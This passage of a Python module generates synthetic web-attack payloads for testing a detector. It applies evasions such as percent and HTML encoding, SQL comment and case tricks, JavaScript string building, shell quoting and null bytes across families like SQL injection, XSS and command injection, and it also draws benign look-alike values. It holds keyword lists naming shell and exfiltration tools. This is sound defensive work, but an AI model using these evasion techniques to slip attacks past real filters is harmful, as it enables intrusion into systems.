          "(": ("&lpar;",), ")": ("&rpar;",), ":": ("&colon;",), "/": ("&sol;",), "\t": ("&Tab;",), "\n": ("&NewLine;",),
          "!": ("&excl;",), "=": ("&equals;",), ".": ("&period;",), ",": ("&comma;",), ";": ("&semi;",), "`": ("&grave;",),
          "\\": ("&bsol;",), "{": ("&lcub;",), "}": ("&rcub;",), "[": ("&lsqb;",), "]": ("&rsqb;",), "+": ("&plus;",),
          "*": ("&ast;",), "?": ("&quest;",), "#": ("&num;",), "$": ("&dollar;",), "%": ("&percnt;",), "|": ("&verbar;",)}


def _ev_html(value: str, rng: random.Random, mode: str | None = None) -> str:
    """HTML character references: decimal, hex, zero-padded, named, with and without the `;`."""
    mode = mode or rng.choices(("special", "some", "all"), weights=(8, 4, 1))[0]
    style = rng.choices(("dec", "hex", "pad", "named", "mixed"), weights=(4, 4, 1, 2, 2))[0]
    semicolon = rng.random() < 0.75
    p = rng.uniform(0.25, 0.7)
    out = []
    for i, ch in enumerate(value):
        special = not ch.isalnum() and ch != " "
        if mode == "all" or (mode == "special" and special) or (mode == "some" and rng.random() < p):
            s = rng.choice(("dec", "hex", "pad", "named")) if style == "mixed" else style
            nxt = value[i + 1] if i + 1 < len(value) else ""
            if s == "named" and ch in _NAMED:
                out.append(rng.choice(_NAMED[ch]) if nxt and not nxt.isalnum() else _NAMED[ch][0])
                continue
            if s == "hex" or (s == "named" and rng.random() < 0.5):
                ref = f"&#x{ord(ch):x}" if rng.random() < 0.7 else f"&#X{ord(ch):X}"
                safe_end = not nxt or nxt not in "0123456789abcdefABCDEF;"
            elif s == "pad":
                ref = f"&#{'0' * rng.randint(1, 5)}{ord(ch)}"
                safe_end = not nxt or not nxt.isdigit() and nxt != ";"
            else:
                ref = f"&#{ord(ch)}"
                safe_end = not nxt or not nxt.isdigit() and nxt != ";"
            out.append(ref if (not semicolon and safe_end) else ref + ";")
        else:
            out.append(ch)
    text = "".join(out)
    return text if text != value else _ev_html(value, rng, "all")


_ESCAPED = re.compile(r"\\(?:x[0-9a-fA-F]{2}|u\{[0-9a-fA-F]{1,6}\}|u[0-9a-fA-F]{4}|[0-7]{3})")


def _ev_backslash(value: str, rng: random.Random, style: str | None = None) -> str:
    """JavaScript/Python/JSON string escapes: \\xHH, \\u00HH, \\u{HH}, octal."""
    style = style or rng.choice(("x", "x", "u", "u", "ub", "oct"))
    protected = {i for m in _ESCAPED.finditer(value) for i in range(m.start(), m.end())}
    targets = [i for i, ch in enumerate(value) if not ch.isalnum() and ch not in " \\" and i not in protected]
    letters = [i for i, ch in enumerate(value) if ch.isalpha() and i not in protected]
    pool = targets if targets and rng.random() < 0.6 else letters or targets
    if not pool:
        return value
    chosen = set(rng.sample(pool, max(1, int(len(pool) * rng.uniform(0.2, 0.8)))))
    out = []
    for i, ch in enumerate(value):
        if i in chosen and ord(ch) < 0x100:
            code = ord(ch)
            out.append({"x": f"\\x{code:02x}", "u": f"\\u{code:04x}", "ub": f"\\u{{{code:x}}}", "oct": f"\\{code:03o}"}[style])
        else:
            out.append(ch)
    return "".join(out)


def _ev_fullwidth(value: str, rng: random.Random) -> str:
    """Fullwidth forms (U+FF01..U+FF5E) for some characters; NFKC folds them back."""
    mode = rng.choice(("special", "letters", "some"))
    p = rng.uniform(0.3, 1.0)
    out = []
    for ch in value:
        eligible = "!" <= ch <= "~" and ((mode == "special" and not ch.isalnum()) or (mode == "letters" and ch.isalpha()) or mode == "some")
        if eligible and rng.random() < p:
            out.append(chr(ord(ch) + 0xFEE0))
        elif ch == " " and mode != "letters" and rng.random() < p * 0.5:
            out.append("\u3000")
        else:
            out.append(ch)
    return "".join(out)


_SQL_KEYWORDS = re.compile(
    r"\b(select|union|all|distinct|from|where|and|or|not|xor|order|group|by|having|limit|offset|insert|into|values|"
    r"update|set|delete|drop|table|database|exec|execute|declare|waitfor|delay|sleep|benchmark|pg_sleep|case|when|then|"
    r"else|end|if|like|rlike|regexp|between|null|is|in|exists|concat|concat_ws|group_concat|char|chr|substring|substr|mid|"
    r"ascii|ord|length|version|user|database|schema|information_schema|load_file|outfile|dumpfile|extractvalue|updatexml|"
    r"cast|convert|as|int|varchar|hex|unhex|count|floor|rand|true|false|procedure|analyse|asc|desc|xp_cmdshell|dual|"
    r"sysdate|now|top|truncate|shutdown|create|grant|copy|program|identified|current_user|system_user)\b", re.I)
_SQL_COMMENT_KEYWORDS = _DATA.words("evasions", "sql_comment_keywords")


def _mix_case(word: str, rng: random.Random, style: str) -> str:
    if style == "upper":
        return word.upper()
    if style == "title":
        return word[:1].upper() + word[1:]
    if style == "alt":
        return "".join(ch.upper() if i % 2 else ch.lower() for i, ch in enumerate(word))
    mixed = "".join(ch.upper() if rng.random() < 0.5 else ch.lower() for ch in word)
    return mixed if mixed != word.lower() else word.upper()


def _ev_case_regex(pattern: re.Pattern, group: int = 0):
    def apply(value: str, rng: random.Random) -> str:
        style = rng.choice(("upper", "mixed", "mixed", "alt", "title"))

        def sub(match: re.Match) -> str:
            if group == 0:
                return _mix_case(match[0], rng, style)
            start, end = match.span(group)
            base = match.start()
            text = match[0]
            return text[: start - base] + _mix_case(match[group], rng, style) + text[end - base:]
        return pattern.sub(sub, value)
    return apply


_XSS_CASE = re.compile(r"</?([a-zA-Z][\w:-]*)|(?<=[\s/\"'])(on[a-z]+|src|href|style|autofocus|action|formaction|data|"
                       r"srcdoc|open|tabindex|type|xlink:href|poster|background|content|http-equiv)(?=\s*=|[\s>])|"
                       r"(javascript|vbscript|data)(?=:)", re.I)


def _ev_xss_case(value: str, rng: random.Random) -> str:
    style = rng.choice(("upper", "mixed", "mixed", "alt", "title"))

    def sub(match: re.Match) -> str:
        for g in (1, 2, 3):
            if match.group(g):
                s, e = match.span(g)
                b = match.start()
                return match[0][: s - b] + _mix_case(match[g], rng, style) + match[0][e - b:]
        return match[0]
    return _XSS_CASE.sub(sub, value)


_ev_sql_case = _ev_case_regex(_SQL_KEYWORDS)
_ev_win_case = _ev_case_regex(re.compile(r"\b(powershell|cmd|certutil|bitsadmin|whoami|ipconfig|systeminfo|tasklist|"
                                         r"net|type|dir|windows|system32|win\.ini|boot\.ini|inetpub|wwwroot|web\.config|"
                                         r"php|filter|resource|convert|base64-encode|file|http|https|iex|new-object|"
                                         r"downloadstring|invoke-webrequest|mshta|regsvr32|rundll32|wmic)\b", re.I))
_ev_url_case = _ev_case_regex(re.compile(r"^[a-z][a-z0-9+.-]*(?=:)|(?<=//)[^/?#\\@\s]+|\b(localhost|metadata|internal)\b", re.I))
_ev_hdr_case = _ev_case_regex(re.compile(r"\b(set-cookie|location|content-length|content-type|access-control-allow-origin|"
                                         r"refresh|host|x-forwarded-for|x-xss-protection|transfer-encoding|link)\b", re.I))
_ev_ldap_case = _ev_case_regex(re.compile(r"\b(objectclass|uid|cn|sn|mail|userpassword|memberof|samaccountname|"
                                          r"description|givenname|objectcategory|person|user|inetorgperson)\b", re.I))


def _outside_quotes(value: str):
    """Indexes of spaces outside '...' and \"...\" literals."""
    quote = None
    for i, ch in enumerate(value):
        if quote:
            if ch == quote:
                quote = None
        elif ch in "'\"":
            quote = ch
        elif ch == " ":
            yield i


def _replace_spaces(value: str, rng: random.Random, choices: tuple[str, ...], share: float | None = None,
                    quoted: bool = False) -> str:
    spaces = list(_outside_quotes(value)) if not quoted else [i for i, ch in enumerate(value) if ch == " "]
    if not spaces:
        return value
    share = share if share is not None else rng.choice((1.0, 1.0, 0.5, rng.random()))
    consistent = rng.random() < 0.7
    fixed = rng.choice(choices)
    out = list(value)
    for i in spaces:
        if rng.random() <= share:
            out[i] = fixed if consistent else rng.choice(choices)
    return "".join(out)


def _ev_sql_comment(value: str, rng: random.Random) -> str:
    mode = rng.randrange(3)
    if mode == 0:
        filler = rng.choice(("/**/", "/**/", "/*" + _letters(rng, 1, 6) + "*/", "/*!*/", "/**_**/"))
        return _replace_spaces(value, rng, (filler, "/**/", "/*%0a*/"))
    kws = [m for m in _SQL_KEYWORDS.finditer(value) if m[0].lower() in _SQL_COMMENT_KEYWORDS]
    if not kws:
        return _replace_spaces(value, rng, ("/**/",))
    version = rng.choice(("", "", "50000", "50001", "12345", "40100", "32302", "44444"))
    out, last = [], 0
    for m in kws:
        if rng.random() < 0.6:
            out.append(value[last:m.start()])
            out.append(f"/*!{version}{m[0]}*/" if mode == 1 else f"{m[0]}/**/")
            last = m.end()
    out.append(value[last:])
    text = "".join(out)
    return text if text != value else _replace_spaces(value, rng, ("/**/",))


_WS_SQL = _DATA.words("evasions", "ws_sql")
_WS_XSS = _DATA.words("evasions", "ws_xss")
_WS_SH = _DATA.words("evasions", "ws_sh")
_WS_GENERIC = _DATA.words("evasions", "ws_generic")


def _ev_ws(choices: tuple[str, ...], quoted: bool = False):
    return lambda value, rng: _replace_spaces(value, rng, choices, quoted=quoted)


def _ev_xss_ws(value: str, rng: random.Random) -> str:
    sep = rng.choice(_WS_XSS)
    text, n = re.subn(r"<([a-zA-Z][\w-]*) ", lambda m: f"<{m[1]}{sep}", value)
    return text if n else _replace_spaces(value, rng, ("\n", "\t", "%0a", "%09"), quoted=True)


def _ev_xml_ws(value: str, rng: random.Random) -> str:
    text = _replace_spaces(value, rng, ("\n", "\t", "  ", "\r\n", "\n\t"), quoted=False)
    if text == value:
        text = value.replace("><", rng.choice((">\n<", "> <", ">\t<")), rng.randint(1, 4))
    return text


def _ev_json_ws(value: str, rng: random.Random) -> str:
    sep = rng.choice(("\n", " ", "\t", "\n  ", "\r\n"))
    text = re.sub(r"([{,\[])\s*", lambda m: m[1] + sep, value)
    return text


def _ev_url_ws(value: str, rng: random.Random) -> str:
    """Tabs and newlines inside a URL: browsers strip them."""
    ws = rng.choice(("%09", "%0a", "%0d", "\t", "\n", "%0d%0a"))
    spots = [i for i, ch in enumerate(value[:24]) if ch in "/:"] or [0]
    i = rng.choice(spots)
    return value[:i + 1] + ws + value[i + 1:]


_CONTEXT_CLOSER = re.compile(r"[\w@.%-]*'")


def _sql_literals(value: str) -> list[tuple[int, int]]:
    """Spans of complete '...' literals, skipping the quote that closes the application's string."""
    quotes = [i for i, ch in enumerate(value) if ch == "'"]
    if quotes and _CONTEXT_CLOSER.match(value) and _CONTEXT_CLOSER.match(value).end() == quotes[0] + 1:
        quotes = quotes[1:]
    spans = []
    for a, b in zip(quotes[::2], quotes[1::2]):
        body = value[a + 1:b]
        if 2 <= len(body) <= 40 and "\\" not in body:
            spans.append((a, b + 1))
    return spans


def _ev_sql_concat(value: str, rng: random.Random) -> str:
    spans = _sql_literals(value)
    if not spans:
        return value
    start, end = rng.choice(spans)
    s = value[start + 1:end - 1]
    cut = rng.randint(1, len(s) - 1)
    a, b = s[:cut], s[cut:]
    form = rng.randrange(9)
    if form == 0:
        rep = f"'{a}'||'{b}'"
    elif form == 1:
        rep = f"'{a}' '{b}'"
    elif form == 2:
        rep = f"'{a}'+'{b}'"
    elif form == 3:
        rep = f"concat('{a}','{b}')"
    elif form == 4:
        rep = "char(" + ",".join(str(ord(c)) for c in s) + ")"
    elif form == 5:
        rep = "||".join(f"chr({ord(c)})" for c in s)
    elif form == 6:
        rep = "0x" + s.encode().hex()
    elif form == 7:
        rep = "+".join(f"char({ord(c)})" for c in s)
    else:
        rep = f"x'{s.encode().hex()}'"
    return value[:start] + rep + value[end:]


def _ev_sql_quotes(value: str, rng: random.Random) -> str:
    if "'" in value and '"' not in value and rng.random() < 0.6:
        return value.replace("'", '"')
    if value.startswith(("'", '"')) or rng.random() < 0.5:
        return rng.choice(("%bf", "%df", "%aa", "\\", "%bf%5c")) + value if value[:1] in "'\"" else value
    return value.replace("'", "''", 1) if "'" in value else value


_JS_STRING = re.compile(r"'([^'\\<>]{2,30})'")
_JS_CALL = re.compile(r"\b(alert|prompt|confirm|eval|fetch)\(")


def _ev_js_concat(value: str, rng: random.Random) -> str:
    calls = list(_JS_CALL.finditer(value))
    strings = list(_JS_STRING.finditer(value))
    if calls and (not strings or rng.random() < 0.6):
        m = rng.choice(calls)
        name = m[1]
        cut = rng.randint(1, len(name) - 1)
        rep = rng.choice((f"window['{name[:cut]}'+'{name[cut:]}'](", f"top[atob('{_b64(name)}')](",
                          f"self[String.fromCharCode({','.join(str(ord(c)) for c in name)})](", f"(0,{name})(",
                          f"{name}.call(null,", f"[{name}][0](", f"this['{name}'](", f"globalThis['{name[:cut]}'+'{name[cut:]}']("))
        return value[:m.start()] + rep + value[m.end():]
    if strings:
        m = rng.choice(strings)
        s = m[1]
        cut = rng.randint(1, len(s) - 1)
        rep = rng.choice((f"'{s[:cut]}'+'{s[cut:]}'", "String.fromCharCode(" + ",".join(str(ord(c)) for c in s) + ")",
                          f"atob('{_b64(s)}')", f"'{s[:cut]}'.concat('{s[cut:]}')", f"['{s[:cut]}','{s[cut:]}'].join('')"))
        return value[:m.start()] + rep + value[m.end():]
    return value


def _ev_str_split(joiner: str):
    def apply(value: str, rng: random.Random) -> str:
        strings = list(re.finditer(r"'([^'\\]{3,40})'", value))
        if not strings:
            return value
        m = rng.choice(strings)
        s = m[1]
        cut = rng.randint(1, len(s) - 1)
        return value[:m.start()] + f"'{s[:cut]}'{joiner}'{s[cut:]}'" + value[m.end():]
    return apply


_SHELL_WORD = re.compile(r"\b(cat|id|whoami|uname|ls|curl|wget|nc|ncat|bash|sh|ping|sleep|nslookup|dig|python3?|perl|"
                         r"php|ruby|echo|passwd|shadow|etc|hostname|ifconfig|env|base64|chmod|socat|telnet|head|tail)\b")


def _ev_shell_quote(value: str, rng: random.Random) -> str:
    words = [m for m in _SHELL_WORD.finditer(value) if len(m[0]) >= 2]
    if not words:
        return value
    picks = rng.sample(words, min(len(words), rng.randint(1, 3)))
    out, last = [], 0
    for m in sorted(picks, key=lambda m: m.start()):
        out.append(value[last:m.start()])
        out.append(_split_insert(m[0], rng))
        last = m.end()
    out.append(value[last:])
    return "".join(out)


def _ev_shell_ansi(value: str, rng: random.Random) -> str:
    """Bash ANSI-C quoting of a command word: $'\\x69\\x64'."""
    words = list(_SHELL_WORD.finditer(value))
    if not words:
        return value
    m = rng.choice(words)
    enc = "".join(rng.choice(("\\x%02x" % ord(c), "\\%03o" % ord(c))) for c in m[0])
    return value[:m.start()] + "$'" + enc + "'" + value[m.end():]


def _ev_null(value: str, rng: random.Random) -> str:
    r = rng.random()
    nul = rng.choice(("%00", "%00", "%00", "%2500", "\\x00", "\\0", "%u0000"))
    if r < 0.55:
        return value + nul
    if r < 0.7:
        return nul + value
    dot = value.rfind(".")
    if r < 0.9 and 0 < dot < len(value) - 1:
        return value[:dot] + nul + value[dot:]
    i = rng.randint(0, len(value))
    return value[:i] + nul + value[i:]


_TRAVERSAL_RE = re.compile(r"\.\.[/\\]")


def _ev_path(value: str, rng: random.Random) -> str:
    if _TRAVERSAL_RE.search(value):
        consistent = rng.random() < 0.75
        fixed = _TRAVERSAL(rng)
        return _TRAVERSAL_RE.sub(lambda m: fixed if consistent else _TRAVERSAL(rng), value)
    slashes = [i for i, ch in enumerate(value) if ch == "/"]
    if not slashes:
        return value.replace("\\", "/") if "\\" in value else value
    i = rng.choice(slashes)
    rep = rng.choice(("//", "/./", "/%2f", "%2f", "\\", "/.//", "%5c", "/;/"))
    return value[:i] + rep + value[i + 1:]


def _ev_xss_attr(value: str, rng: random.Random) -> str:
    """Attribute-level variants: quoting of handler values, junk attributes, unclosed tags."""
    r = rng.random()
    if r < 0.4:
        m = list(re.finditer(r"(on[a-z]+)=([^\s>\"'`]+)", value))
        if m:
            x = rng.choice(m)
            q = rng.choice(('"', "'", "`")) if '"' not in x[2] else "'"
            return value[:x.start()] + f"{x[1]}={q}{x[2]}{q}" + value[x.end():]
    if r < 0.7:
        junk = rng.choice(("x", "id=x", "class=" + _word(rng), "foo", "data-x=1", 'a="b"'))
        return re.sub(r"<([a-zA-Z][\w-]*)([\s/])", lambda m: f"<{m[1]}{m[2]}{junk} ", value, count=1)
    if value.endswith(">") and rng.random() < 0.5:
        return value[:-1] + rng.choice(("//", " ", "<!--", "//>", " x"))
    return re.sub(r"(on[a-z]+)=", lambda m: m[1] + rng.choice((" = ", "=", "\n=", "=\n", " =")), value, count=1)


# Evasions per family: (function, weight, stage). Stage orders them: rewrites first, then the
# encodings in the reverse of the order normalize() undoes them (fullwidth, \-escapes, entities, %).
_STAGE_FULLWIDTH, _STAGE_BACKSLASH, _STAGE_HTML, _STAGE_URL = 1, 2, 3, 4
_UNIVERSAL = [(_ev_url, 4, _STAGE_URL), (_ev_html, 0.5, _STAGE_HTML), (_ev_fullwidth, 0.5, _STAGE_FULLWIDTH)]
_EVASIONS: dict[str | None, list] = {
    "sqli": [(_ev_url, 4, 4), (_ev_sql_case, 5, 0), (_ev_sql_comment, 5, 0), (_ev_ws(_WS_SQL), 4, 0), (_ev_sql_concat, 3, 0),
             (_ev_sql_quotes, 2, 0), (_ev_null, 1, 0), (_ev_html, 0.7, 3), (_ev_fullwidth, 0.7, 1),
             (lambda v, r: _ev_backslash(v, r, "u"), 0.3, 2)],
    "xss": [(_ev_url, 4, 4), (_ev_xss_case, 6, 0), (_ev_xss_attr, 3, 0), (_ev_html, 4, 3), (_ev_backslash, 2, 2),
            (_ev_js_concat, 3, 0), (_ev_xss_ws, 3, 0), (_ev_fullwidth, 1, 1), (_ev_null, 0.4, 0)],
    "rce": [(_ev_url, 4, 4), (_ev_ws(_WS_SH), 5, 0), (_ev_shell_quote, 5, 0), (_ev_shell_ansi, 1, 0), (_ev_null, 1, 0),
            (_ev_html, 0.5, 3), (_ev_fullwidth, 0.5, 1), (_ev_win_case, 1, 0)],
    "lfi": [(_ev_url, 5, 4), (_ev_path, 8, 0), (_ev_null, 3, 0), (_ev_win_case, 1, 0), (_ev_fullwidth, 1, 1), (_ev_html, 0.5, 3),
            (_ev_backslash, 0.5, 2)],
    "ssti": [(_ev_url, 4, 4), (_ev_html, 1, 3), (_ev_backslash, 3, 2), (_ev_str_split("+"), 1.5, 0), (_ev_str_split("~"), 1, 0),
             (_ev_ws(_WS_GENERIC, quoted=True), 2, 0), (_ev_fullwidth, 1, 1)],
    "ssrf": [(_ev_url, 4, 4), (_ev_url_case, 3, 0), (_ev_fullwidth, 1, 1), (_ev_url_ws, 0.5, 0), (_ev_html, 0.5, 3)],
    "xxe": [(_ev_xml_ws, 4, 0), (_ev_url, 2, 4), (_ev_html, 0.5, 3)],
    "nosqli": [(_ev_url, 4, 4), (lambda v, r: _ev_backslash(v, r, "u"), 3, 2), (_ev_json_ws, 2, 0), (_ev_str_split("+"), 1, 0),
               (_ev_html, 0.5, 3)],
    "ldapi": [(_ev_url, 5, 4), (_ev_ldap_case, 3, 0), (_ev_null, 3, 0), (_ev_html, 0.5, 3), (_ev_fullwidth, 0.5, 1)],
    "crlf": [(_ev_url, 5, 4), (_ev_hdr_case, 3, 0), (_ev_ws(("%20", "\t", "%09"), quoted=True), 1, 0)],
    "xpathi": [(_ev_url, 4, 4), (_ev_ws(_WS_GENERIC), 3, 0), (_ev_html, 1, 3), (_ev_fullwidth, 0.5, 1), (_ev_null, 0.5, 0)],
    "open-redirect": [(_ev_url, 5, 4), (_ev_url_case, 3, 0), (_ev_url_ws, 3, 0), (_ev_fullwidth, 2, 1),
                      (lambda v, r: _ev_backslash(v, r, "u"), 0.5, 2), (_ev_html, 0.5, 3)],
    "prototype-pollution": [(_ev_url, 6, 4), (lambda v, r: _ev_backslash(v, r, "u"), 3, 2), (_ev_html, 0.5, 3),
                            (_ev_json_ws, 0.5, 0)],
    "ssi": [(_ev_url, 4, 4), (_ev_ws(_WS_GENERIC, quoted=True), 3, 0), (_ev_html, 1, 3), (_ev_fullwidth, 0.5, 1)],
    None: _UNIVERSAL + [(_ev_backslash, 0.5, _STAGE_BACKSLASH), (_ev_ws(_WS_GENERIC), 1, 0), (_ev_null, 0.5, 0)],
}


def _guess_family(value: str) -> str | None:
    low = value.lower()
    if re.search(r"\b(select|union|sleep|waitfor|benchmark)\b|'\s*(or|and)\s", low):
        return "sqli"
    if "<" in low and re.search(r"<[a-z!?/]", low):
        return "xss"
    if "../" in low or "..\\" in low:
        return "lfi"
    if "://" in low:
        return "ssrf"
    return None


def evade(value: str, rng: random.Random, family: str | None = None) -> str:
    """`value` with one to three evasions applied, chosen for its family (guessed when not given).

    The evasions are those attackers layer on payloads: percent-encoding (partial, full, double,
    IIS %u), HTML character references, \\x/\\u escapes, fullwidth forms, keyword case, SQL
    comments and string building, whitespace substitutes, shell quoting, traversal spellings,
    null bytes, tag and attribute variants. The result always differs from `value`.
    (generate() leaves ~60% of payloads untouched; that is the "zero evasions" case.)
    """
    table = _EVASIONS.get(family if family is not None else _guess_family(value)) or _EVASIONS[None]
    k = rng.choices((1, 2, 3), weights=(6, 3, 1))[0]
    weights = [e[1] for e in table]
    chosen: list[tuple] = []
    for _ in range(k):
        pick = rng.choices(range(len(table)), weights=weights)[0]
        if all(c is not table[pick] for c in chosen):
            chosen.append(table[pick])
    chosen.sort(key=lambda e: e[2])
    out = value
    for func, _, _ in chosen:
        out = func(out, rng)
    if out == value:
        out = _ev_url(value, rng, rng.choice(("special", "all")))
        if out == value:
            out = _ev_url(value, rng, "all")
    return out


# ---------------------------------------------------------------------------------------------
# Public API
# ---------------------------------------------------------------------------------------------

def _style(value: str, family: str, rng: random.Random) -> str:
    """House style that is not an evasion: many people write SQL keywords in upper case."""
    if family == "sqli" and rng.random() < 0.3:
        return _SQL_KEYWORDS.sub(lambda m: m[0].upper(), value)
    return value


def _usable(value: str) -> bool:
    return bool(value.strip()) and len(value) <= MAX_CHARS and not SAFE_VALUE.match(value)


def _usable_attack(value: str) -> bool:
    """Also reject values whose decoded form is plain (`%77%68%6f%61%6d%69` is just "whoami")."""
    return _usable(value) and not SAFE_VALUE.match(normalize(value)[0])


def _draw(family: str, n: int, rng: random.Random, exclude: set[str]) -> list[str]:
    out: list[str] = []
    seen = set(exclude)
    attempts, budget = 0, 60 * n + 1000
    while len(out) < n:
        attempts += 1
        value = _style(_s(family, rng), family, rng)
        if rng.random() < EVADE_RATE:
            value = evade(value, rng, family)
        if attempts > budget:  # a grammar this narrow for n: force variety with an evasion
            value = evade(value, rng, family)
        if value not in seen and _usable_attack(value):
            seen.add(value)
            out.append(value)
        if attempts > 4 * budget:
            raise RuntimeError(f"{family}: could not draw {n} distinct payloads")
    return out


def _family_rng(family: str, seed: int) -> random.Random:
    if family not in FAMILIES:
        raise ValueError(f"unknown family {family!r}; expected one of {', '.join(FAMILIES)}")
    return random.Random(seed * 1000 + FAMILIES.index(family))


def generate(family: str, n: int, seed: int) -> list[str]:
    """`n` distinct payload values of one family, the same for the same seed.

    About 40% carry evasions (see `evade`). A shorter list for the same seed is a prefix of a
    longer one. Values are never empty, never longer than MAX_CHARS, and never made only of the
    characters the extractor skips without scoring.
    """
    return _draw(family, n, _family_rng(family, seed), set())


def generate_all(per_family: dict[str, int] | int, seed: int) -> list[tuple[str, str]]:
    """(value, family) pairs: `per_family` payloads of every family (or of the families in the dict).

    Grouped by family in FAMILIES order. A value is kept only under the first family that drew it,
    so the list has no duplicate values (the later family draws another instead).
    """
    counts = {f: per_family for f in FAMILIES} if isinstance(per_family, int) else dict(per_family)
    unknown = set(counts) - set(FAMILIES)
    if unknown:
        raise ValueError(f"unknown families: {sorted(unknown)}")
    pairs: list[tuple[str, str]] = []
    taken: set[str] = set()
    for family in FAMILIES:
        if counts.get(family, 0) > 0:
            values = _draw(family, counts[family], _family_rng(family, seed), taken)
            taken.update(values)
            pairs.extend((v, family) for v in values)
    return pairs


# ---------------------------------------------------------------------------------------------
# Benign look-alikes
# ---------------------------------------------------------------------------------------------

_FIRST = _DATA.words("benign-look-alikes", "first")
_LAST = _DATA.words("benign-look-alikes", "last")
_CITIES = _DATA.words("benign-look-alikes", "cities")
_PRODUCTS = _DATA.words("benign-look-alikes", "products")
_THINGS = _DATA.words("benign-look-alikes", "things")
_PHRASES = _DATA.words("benign-look-alikes", "phrases")


def _benign_phrase(rng: random.Random) -> str:
    return rng.choice(_PHRASES)


def _arith(rng: random.Random) -> str:
    a, b = rng.randint(1, 99), rng.randint(1, 99)
    return rng.choice((f"{a} + {b} = {a + b}", f"{a + b} - {b} = {a}", f"{a} x {b} = {a * b}", f"{a} * {b} = {a * b}",
                       f"{a * b} / {b} = {a}", f"{min(a, b)} < {max(a, b) + 1}", f"{max(a, b) + 1} > {min(a, b)}",
                       f"{a}% of {b * 10}", f"{a}/{b}", f"({a} + {b}) * 2", f"{a}:{b:02d}", f"{a}.{b} kg", f"{a}-{b} years",
                       f"{a} < x < {a + b}", f"~{a} min", f"{a}°C / {a * 9 // 5 + 32}°F", f"{a}'{b % 12}\""))


_BENIGN_WORDS = _DATA.words("benign-look-alikes", "benign_words")
_def("bw", lambda rng: rng.choice(_BENIGN_WORDS))
_def("bW", lambda rng: rng.choice(("AB", "IB", "LH", "UX", "FR", "KL", "AF", "BA", "VY", "EZ")))
_def("b_first", lambda rng: rng.choice(_FIRST))
_def("b_last", lambda rng: rng.choice(_LAST))
_def("b_city", lambda rng: rng.choice(_CITIES))
_def("b_product", lambda rng: rng.choice(_PRODUCTS))
_def("b_thing", lambda rng: rng.choice(_THINGS))
_def("b_phrase", _benign_phrase)
_def("b_arith", _arith)
_def("b_n", _ri(1, 99))
_def("b_price", lambda rng: rng.choice((f"${rng.randint(1, 999)}.{rng.randint(0, 99):02d}", f"€{rng.randint(1, 999)},{rng.randint(0, 99):02d}",
                                         f"£{rng.randint(1, 500)}", f"{rng.randint(1, 9999)} ¥", f"{rng.randint(5, 500)} zł")))
_def("b_email", lambda rng: (_letters(rng, 3, 8) + rng.choice((".", "_", "+", "")) + _letters(rng, 2, 6) + "@"
                             + rng.choice(("gmail.com", "yahoo.es", "outlook.com", "example.org", "web.de", "mail.ru", "proton.me"))))
_def("b_date", lambda rng: rng.choice((f"20{rng.randint(10, 26)}-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}",
                                        f"{rng.randint(1, 28):02d}/{rng.randint(1, 12):02d}/20{rng.randint(10, 26)}",
                                        f"{rng.randint(1, 12)}:{rng.randint(0, 59):02d} {rng.choice(('AM', 'PM'))}",
                                        f"{rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}–{rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}")))
_def("b_phone", lambda rng: rng.choice((f"+1 ({rng.randint(200, 999)}) {rng.randint(200, 999)}-{rng.randint(1000, 9999)}",
                                         f"+34 {rng.randint(600, 999)} {rng.randint(10, 99)} {rng.randint(10, 99)} {rng.randint(10, 99)}",
                                         f"+44 (0){rng.randint(20, 79)} {rng.randint(1000, 9999)} {rng.randint(1000, 9999)}",
                                         f"0{rng.randint(100, 999)}/{rng.randint(100000, 999999)}")))
# Ordinary domains drawn like the attack grammars draw theirs (random letters, many TLDs): an
# unknown domain alone must not look like an attack, only the tricks and targets around it.
_B_TLDS = _DATA.words("benign-look-alikes", "b_tlds")
_def("b_dom", lambda rng: (rng.choice(("", "", "www.", "blog.", "shop.", "m.", "en.")) + _letters(rng, 2, 11)
                           + rng.choice(("", "", "", "-" + _letters(rng, 2, 7))) + "." + rng.choice(_B_TLDS)))


def _b_ipv6(rng: random.Random) -> str:
    groups = [f"{rng.randint(0, 0xFFFF):x}" for _ in range(8)]
    groups[0] = rng.choice(("2001", "2a02", "2a01", "2600", "2604", "2406", "2a00", "fe80", "2003", "2c0f"))
    if rng.random() < 0.5:  # zero-run compression
        start = rng.randint(1, 6)
        return ":".join(groups[:start]) + "::" + ":".join(groups[start + rng.randint(1, 2):])
    return ":".join(groups)


def _b_ip(rng: random.Random) -> str:
    """Client addresses as proxies forward them (x-forwarded-for, forwarded, logs)."""
    one = lambda: _b_ipv6(rng) if rng.random() < 0.5 else _pub_ip(rng)  # noqa: E731
    form = rng.randrange(5)
    if form == 0:
        return ", ".join(one() for _ in range(rng.randint(2, 3)))
    if form == 1:
        return f"for={one()};proto=https" if rng.random() < 0.5 else f'for="[{_b_ipv6(rng)}]:{rng.randint(1025, 65535)}"'
    if form == 2:
        return f"[{_b_ipv6(rng)}]:{rng.randint(1025, 65535)}"
    return _b_ipv6(rng)


_def("b_ip", _b_ip)


def benign_lookalikes(n: int, seed: int) -> list[str]:
    """`n` distinct ordinary values that share characters and words with attacks but are not attacks:
    quotes in names and phrases, `<` and `&` in prose, SQL words in sentences, paths, URLs, arithmetic,
    placeholders, prices and dates, reviews and searches in many languages.
    """
    rng = random.Random(seed * 1000 + _BENIGN_STREAM)
    out: list[str] = []
    seen: set[str] = set()
    attempts = 0
    while len(out) < n:
        attempts += 1
        value = _s("benign", rng)
        if _usable(value) and value not in seen:
            seen.add(value)
            out.append(value)
        if attempts > 200 * n + 10000:
            raise RuntimeError(f"could not draw {n} distinct benign values")
    return out
